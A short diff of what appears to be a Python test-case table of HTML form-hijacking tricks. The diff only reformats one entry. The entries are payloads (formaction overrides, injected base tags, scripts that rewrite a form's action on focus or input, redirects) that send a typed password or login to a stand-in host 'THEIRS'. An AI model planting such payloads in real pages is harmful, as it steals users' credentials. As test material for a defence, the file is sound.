@@ -94,7 +94,9 @@ TRICKS = {
     "formaction of another button": form(inside="<button hidden formaction=THEIRS/tell>x</button>"),
     "base": "<base href=THEIRS>" + form("tell"),
     "a name that hides the action": form("THEIRS/tell", inside="<input type=hidden name=action value=login>"),
-    "the action changes when the word is reached": form(below=on("focus", "word", "e.target.form.action='THEIRS/tell'")),
+    "the action changes when the word is reached": form(
+        below=on("focus", "word", "e.target.form.action='THEIRS/tell'")
+    ),
     "the action changes when the word is typed": form(below=on("input", "word", "e.target.form.action='THEIRS/tell'")),
     "another page once the name is typed": form(below=on("input", "user", "location.href='THEIRS/sign-in'")),
     **{f"another page at look {n}": form(below=SWAPS.replace("LOOKS", str(n))) for n in (1, 2, 4)},
